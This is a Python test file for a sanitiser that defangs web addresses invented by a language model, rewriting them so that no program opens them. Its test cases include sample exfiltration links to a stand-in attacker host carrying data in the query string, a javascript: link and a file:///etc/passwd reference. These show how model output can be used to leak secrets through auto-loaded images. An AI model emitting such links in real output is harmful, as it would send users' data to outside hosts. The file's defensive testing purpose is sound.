"""Addresses that the model made up open nothing."""

from datetime import date
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from homebody.actions.defang import defang, defanged, printable
from homebody.money import Money

SOURCE = (
    "Read [it](https://good.example/plan), ![](https://good.example/a.png), <b>write</b> to a@good.example."
)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("see https://evil.example/?d=secret", "see hxxps://evil[.]example/?d=secret"),
        ("HTTP://evil.example", "hxxp://evil[.]example"),
        ("![](https://evil.example/?d=1)", "(hxxps://evil[.]example/?d=1)"),
        ("![a b](https://evil.example/x 'title')", "a b (hxxps://evil[.]example/x 'title')"),
        ("[click](https://evil.example)", "click (hxxps://evil[.]example)"),
        ("[click](//evil.example/x)", "click (//[.]evil.example/x)"),
        ("[click](javascript:alert(1))", "click (javascript[:]alert(1))"),
        ("![x][ref]", "x (ref)"),
        ("![[secret note]]", "secret note"),
        ("<img src=https://evil.example>", "&lt;img src=hxxps://evil[.]example>"),
        ("<https://evil.example>", "hxxps://evil[.]example"),
        ("www.evil.example/x", "www[.]evil[.]example/x"),
        ("mailto:me@evil.example?body=x", "mailto[:]me@evil[.]example?body=x"),
        ("data:text/html;base64,AAAA", "data[:]text/html;base64,AAAA"),
        ("file:///etc/passwd", "file[:]///etc/passwd"),
        ("obsidian://open?vault=x", "obsidian[:]//open?vault=x"),
    ],
)
def test_a_made_up_address_becomes_words(text: str, expected: str) -> None:
    """A person can still read it, and no program opens it."""
    assert expected == defang(text, SOURCE)


@pytest.mark.parametrize(
    "text",
    [
        "https://good.example/plan",
        "[our plan](https://good.example/plan)",
        "![](https://good.example/a.png)",
        "<b>write</b>",
        "Note: the meeting is at 10:30, see page 3/4.",
        "Total: 4,850 euros; ratio 3:1, a < b > c",
        "- [ ] clear the attic [1]",
        "C:\\Users and a//b",
    ],
)
def test_what_stands_in_the_document_and_plain_words_stay(text: str) -> None:
    """Only addresses that nobody wrote are touched."""
    assert text == defang(text, SOURCE)


def test_every_value_of_every_slot_is_looked_at() -> None:
    """Lists and mappings too; numbers and nothing stay what they are."""
    found = defanged({"a": ["https://evil.example", 3, None], "b": {"c": "ok"}}, "")
    assert {"a": ["hxxps://evil[.]example", 3, None], "b": {"c": "ok"}} == found


@given(st.text())
def test_defanging_twice_is_defanging_once_more_and_never_fails(text: str) -> None:
    """No text is too strange, and no live address to the web is left in any."""
    after = defang(text, "")
    assert "https://" not in after.casefold() or "https://" not in text.casefold()


@given(
    st.lists(
        st.sampled_from(
            ["https://", "![", "](", ")", "[", "]", "evil.example", "/", " ", "<", ">", "x", "www."]
        )
    )
)
def test_no_combination_of_brackets_keeps_an_address_alive(parts: list[str]) -> None:
    """Half a picture, a link in a link: no address with a host survives."""
    after = defang("".join(parts), "")
    assert "https://evil.example" not in after
    assert "](https://evil" not in after


@given(st.text())
def test_printable_text_has_no_controls(text: str) -> None:
    """What is written can be shown in a terminal and encoded as UTF-8."""
    after = printable(text)
    after.encode()
    assert not any(ord(c) < 32 and c not in "\n\t" for c in after)


def test_the_parts_of_small_objects_are_defanged_and_the_rest_stays() -> None:
    """A line item's text is as suspect as any; dates, money and flags are no text."""
    money, day = Money(Decimal("1.50"), "EUR"), date(2026, 3, 2)
    found = defanged({"lines": [{"what": "![x](https://evil.example/?d=1)", "due": day}], "total": money}, "")
    assert {"lines": [{"what": "x (hxxps://evil[.]example/?d=1)", "due": day}], "total": money} == found
